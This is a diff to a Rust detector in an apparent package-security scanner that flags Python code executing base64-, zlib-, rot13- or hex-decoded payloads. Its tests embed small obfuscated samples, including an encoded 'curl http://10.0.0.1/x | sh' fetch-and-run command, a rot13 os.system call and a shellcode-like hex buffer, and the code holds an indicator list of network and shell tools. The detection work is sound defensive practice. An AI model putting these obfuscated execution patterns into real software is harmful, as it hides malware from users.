@@ -1,20 +1,31 @@
-//! `obfuscation.decode-exec`: decoded data fed to `exec`/`eval`/`compile` —
-//! `exec(base64.b64decode(…))`, `exec(zlib.decompress(…))`, `marshal.loads`,
-//! `bytes.fromhex`, `codecs.decode(…, 'rot13')`, `lzma`, reversed strings — directly
-//! in the call or through one variable (`p = b64decode(x)` … `exec(p)`).
+//! `obfuscation.decode-exec`: decoded data fed to something that runs it —
+//! `exec`/`eval`/`compile`, `types.FunctionType`, `os.system`/`os.popen`, `subprocess`
+//! (`python -c <decoded>`), `pty.spawn`, and for literal payloads also `pickle.loads`,
+//! `marshal.loads` and `ctypes` buffers (shellcode). Decoders: base64/32/16/85,
+//! `decodebytes`, `fromhex`/`unhexlify`, `zlib`/`bz2`/`lzma`/`gzip` `decompress`,
+//! `marshal.loads`, `codecs.decode` (rot13, hex…), reversed strings — directly in the
+//! call, through one variable (`p = b64decode(x)` … `exec(p)`), through a decoder lambda
+//! (`d = lambda s: …`) or a small helper function in the same module
+//! (`def d(s): return base64.b64decode(s)` … `exec(d(x))`).
 //!
-//! Python code only. Tests are not skipped (payloads hide there too).
+//! When the payload is a literal (or a name bound to one in the file), it is decoded
+//! ([`super::fold`], bounded) and the indicator says what it decodes to; a payload that
+//! itself runs processes, evaluates code or reaches the network is one step more severe.
+//! Weighed by place (install time critical, library code high, tests/docs medium, data
+//! low). Python code only; token-wise, so files that do not parse are still scanned.
 
+use super::context;
+use super::fold::{self, Env};
 use super::pysrc::{self, MAX_HITS_PER_FILE};
-use crate::model::{Category, FileRole, Severity};
+use crate::model::{Category, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
 use regex::Regex;
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
 use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "obfuscation.decode-exec",
-    revision: 1,
+    revision: 2,
     title: "Executes decoded or decompressed code.",
     category: Category::Obfuscation,
     severity: Severity::High,
@@ -27,8 +38,38 @@ const DECODERS: &str = r"b64decode|b32decode|b16decode|b85decode|a85decode|decod
 const VAR_WINDOW_LINES: usize = 20;
 
 static EXEC_CALL: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?:^|[^.\w])(?P<name>exec|eval|compile)\s*\(|(?-u:\b)(?P<bname>(?:builtins|__builtins__)\.(?:exec|eval))\s*\(").expect("exec call")
+    Regex::new(concat!(
+        r"(?:^|[^.\w])(?P<name>exec|eval|compile)\s*\(|(?-u:\b)(?P<bname>(?:builtins|__builtins__)\.(?:exec|eval))\s*\(",
+        r"|(?-u:\b)(?P<run>(?:types\.)?FunctionType|os\.(?:system|popen)|subprocess\.(?:Popen|call|run|check_call|check_output|getoutput|getstatusoutput)|pty\.spawn)\s*\(",
+        r"|(?-u:\b)(?P<lit>(?:c?[Pp]ickle|marshal)\.loads|ctypes\.(?:create_string_buffer|memmove|c_char_p|cast)|(?:ctypes\.)?(?:c_char|c_ubyte)\s*\*\s*\w+\)\.from_buffer(?:_copy)?)\s*\(",
+    ))
+    .expect("exec call")
 });
+/// `def name(…):` — a helper whose `return` decodes makes `name` a decoder.
+static DEF_LINE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^([ \t]*)def[ \t]+([A-Za-z_]\w*)[ \t]*\(").expect("def line"));
+/// What a decoded payload does that makes it worse.
+const PAYLOAD_ACTIONS: &[&str] = &[
+    "exec(",
+    "eval(",
+    "compile(",
+    "__import__",
+    "os.system",
+    "popen",
+    "subprocess",
+    "socket",
+    "urlopen",
+    "urllib",
+    "requests.",
+    "http://",
+    "https://",
+    "powershell",
+    "/bin/sh",
+    "/bin/bash",
+    "curl ",
+    "wget ",
+    "ctypes",
+];
 static DECODER: LazyLock<Regex> = LazyLock::new(|| Regex::new(&format!(r"(?:{DECODERS})")).expect("decoder"));
 /// `name = …` at the start of a line (not `==`).
 static ASSIGN_LHS: LazyLock<Regex> =
@@ -51,7 +92,19 @@ impl Detector for DecodeExec {
         &META
     }
     fn interest(&self) -> Interest {
-        Interest::Literals(&["exec", "eval"])
+        Interest::Literals(&[
+            "exec",
+            "eval",
+            "compile(",
+            "FunctionType",
+            "system(",
+            "popen(",
+            "subprocess",
+            "pty.spawn",
+            "ickle.loads",
+            "marshal.loads",
+            "ctypes",
+        ])
     }
     fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
         if !file.is_python {
@@ -62,12 +115,13 @@ impl Detector for DecodeExec {
             return;
         }
         let src = file.source();
-        let sev = Some(if file.role == FileRole::InstallTime { Severity::Critical } else { Severity::High });
+        let env = Env::new(file.text);
         // Variables assigned from a decoder, in code.
         // Variables assigned from a decoder in code, with the line of each assignment.
         let lines = pysrc::Lines::new(file.text);
         let line_of = |o: usize| lines.line(o);
         let mut decoded: HashMap<&str, Vec<usize>> = HashMap::new();
+        let mut helpers: HashSet<&str> = HashSet::new();
         for d in DECODER.find_iter(file.text) {
             if !src.is_code(d.start()) {
                 continue;
@@ -75,6 +129,8 @@ impl Detector for DecodeExec {
             let ls = file.text[..d.start()].rfind('\n').map_or(0, |p| p + 1);
             if let Some(var) = ASSIGN_LHS.captures(&file.text[ls..d.start()]).and_then(|c| c.get(1)) {
                 decoded.entry(var.as_str()).or_default().push(line_of(d.start()));
+            } else if let Some(name) = helper_returning(file.text, ls) {
+                helpers.insert(name);
             }
         }
         let mut n = 0;
@@ -82,41 +138,82 @@ impl Detector for DecodeExec {
             if n >= MAX_HITS_PER_FILE {
                 return;
             }
-            let name = c.name("name").or(c.name("bname")).expect("name");
+            let name = c.name("name").or(c.name("bname")).or(c.name("run")).or(c.name("lit")).expect("name");
             if !src.is_code(name.start()) {
                 continue;
             }
+            let literal_only = c.name("lit").is_some();
             let arg = argument(file.text, c.get(0).expect("m").end());
             let base = c.get(0).expect("m").end();
             let direct = DECODER.find_iter(arg).find(|d| src.is_code(base + d.start()));
             let exec_line = line_of(name.start());
-            let via_var = BARE_ARG.captures(arg).and_then(|v| v.get(1)).filter(|v| {
+            let recent = |v: &regex::Match<'_>| {
                 decoded
                     .get(v.as_str())
                     .is_some_and(|ls| ls.iter().any(|&l| l <= exec_line && exec_line - l <= VAR_WINDOW_LINES))
-            });
-            let via_call = CALLED_ARG.captures(arg).and_then(|v| v.get(1).or(v.get(2))).filter(|v| {
-                decoded
-                    .get(v.as_str())
-                    .is_some_and(|ls| ls.iter().any(|&l| l <= exec_line && exec_line - l <= VAR_WINDOW_LINES))
-            });
+            };
+            let via_var = BARE_ARG.captures(arg).and_then(|v| v.get(1)).filter(|v| recent(v));
+            let called = CALLED_ARG.captures(arg).and_then(|v| v.get(1).or(v.get(2)));
+            let via_call = called.filter(|v| recent(v) || helpers.contains(v.as_str()));
+            let sink = name.as_str().split_whitespace().collect::<String>();
+            let sink = sink.split('(').next().unwrap_or(&sink);
             let ind = match (direct, via_var, via_call) {
-                (Some(d), _, _) => format!("{}({})", name.as_str(), d.as_str()),
-                (None, Some(v), _) => format!("{}({} ← decoded)", name.as_str(), v.as_str()),
-                (None, None, Some(v)) => format!("{}({}(…) ← decoder)", name.as_str(), v.as_str()),
+                (Some(d), _, _) => format!("{sink}({})", d.as_str()),
+                (None, Some(v), _) => format!("{sink}({} ← decoded)", v.as_str()),
+                (None, None, Some(v)) => format!("{sink}({}(…) ← decoder)", v.as_str()),
                 _ => continue,
             };
+            // The payload, when it is a literal (or a name bound to one): what it decodes to.
+            let first = fold::split_args(arg).into_iter().next().unwrap_or("");
+            let payload = fold::eval(first, &env).and_then(|v| match v {
+                fold::Value::Bytes(b) => Some(b),
+                fold::Value::Str(s) => Some(s.into_bytes()),
+                _ => None,
+            });
+            if literal_only && payload.is_none() {
+                continue;
+            }
+            let mut severity = Severity::High;
+            let ind = match &payload {
+                Some(p) => {
+                    let text = String::from_utf8_lossy(p);
+                    if PAYLOAD_ACTIONS.iter().any(|a| text.contains(a)) {
+                        severity = Severity::Critical;
+                    }
+                    format!("{ind} → \"{}\"", fold::preview(p, 40))
+                }
+                None => ind,
+            };
             n += 1;
+            let sev = Some(context::weigh(file, severity));
             hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, name.start(), ind) });
         }
     }
 }
 
+/// The name of the function whose `return` statement starts the line at `line_start`,
+/// when that function is defined at most 8 lines above (a small decoder helper).
+fn helper_returning(text: &str, line_start: usize) -> Option<&str> {
+    let line = &text[line_start..];
+    let body = line.trim_start_matches([' ', '\t']);
+    if !body.starts_with("return") {
+        return None;
+    }
+    let indent = line.len() - body.len();
+    let before = &text[..line_start];
+    for l in before.lines().rev().take(8) {
+        if let Some(c) = DEF_LINE.captures(l) {
+            return (c.get(1).map_or(0, |m| m.len()) < indent).then(|| c.get(2).map(|m| m.as_str())).flatten();
+        }
+    }
+    None
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::model::FileRole::*;
     use crate::scan::detectors::testutil::table;
-    use FileRole::*;
     use Severity::*;
 
     #[test]
@@ -130,7 +227,7 @@ mod tests {
                     "pkg/a.py",
                     Runtime,
                     "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
-                    Some((2, "exec(b64decode)", High)),
+                    Some((2, "exec(b64decode) → \"import os\"", High)),
                 ),
                 (
                     "setup.py zlib",
@@ -185,6 +282,76 @@ mod tests {
                     "pkg/a.py",
                     Runtime,
                     "m = __import__('importlib').import_module(name)\nexec(m.source(x))\n",
+                    None,
+                ),
+                (
+                    "helper function defined in the module",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import base64\n\ndef d(s):\n    return base64.b64decode(s)\n\nX = 'aW1wb3J0IG9z'\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nexec(d(X))\n",
+                    Some((28, "exec(d(…) ← decoder)", High)),
+                ),
+                (
+                    "python -c with a decoded payload",
+                    "setup.py",
+                    InstallTime,
+                    "subprocess.Popen([sys.executable, '-c', base64.b64decode(P).decode()])\n",
+                    Some((1, "subprocess.Popen(b64decode)", Critical)),
+                ),
+                (
+                    "os.system of a literal payload that fetches",
+                    "pkg/a.py",
+                    Runtime,
+                    "os.system(base64.b64decode('Y3VybCBodHRwOi8vMTAuMC4wLjEveCB8IHNo').decode())\n",
+                    Some((1, "os.system(b64decode) → \"curl http://10.0.0.1/x | sh\"", Critical)),
+                ),
+                (
+                    "FunctionType of marshalled code through a variable",
+                    "pkg/a.py",
+                    Runtime,
+                    "code = marshal.loads(zlib.decompress(blob))\nf = types.FunctionType(code, globals())\n",
+                    Some((2, "types.FunctionType(code ← decoded)", High)),
+                ),
+                (
+                    "ctypes buffer of literal shellcode",
+                    "pkg/a.py",
+                    Runtime,
+                    "buf = ctypes.create_string_buffer(bytes.fromhex('fc4883e4f0e8c0000000'))\n",
+                    Some((1, "ctypes.create_string_buffer(fromhex) → \"·H········\"", High)),
+                ),
+                (
+                    "rot13 payload bound to a module name",
+                    "pkg/a.py",
+                    Runtime,
+                    "P = 'vzcbeg bf; bf.flfgrz(\"vq\")'\nexec(codecs.decode(P, 'rot13'))\n",
+                    Some((2, "exec(codecs.decode) → \"import os; os.system(\"id\")\"", Critical)),
+                ),
+                (
+                    "tests weigh medium",
+                    "pkg/tests/test_a.py",
+                    TestOrDocs,
+                    "exec(base64.b64decode(x))\n",
+                    Some((1, "exec(b64decode)", Medium)),
+                ),
+                (
+                    "python 2 file with a syntax error",
+                    "pkg/a.py",
+                    Runtime,
+                    "print 'x'\ndef f(:\nexec(zlib.decompress(b))\n",
+                    Some((3, "exec(decompress)", High)),
+                ),
+                (
+                    "cache backend unpickles decompressed data (not a literal)",
+                    "pkg/cache.py",
+                    Runtime,
+                    "def get(self, value):\n    return pickle.loads(zlib.decompress(value))\n",
+                    None,
+                ),
+                (
+                    "subprocess without a decoder",
+                    "pkg/a.py",
+                    Runtime,
+                    "data = base64.b64decode(s)\nsubprocess.run(['ls'])\n",
                     None,
                 ),
                 (
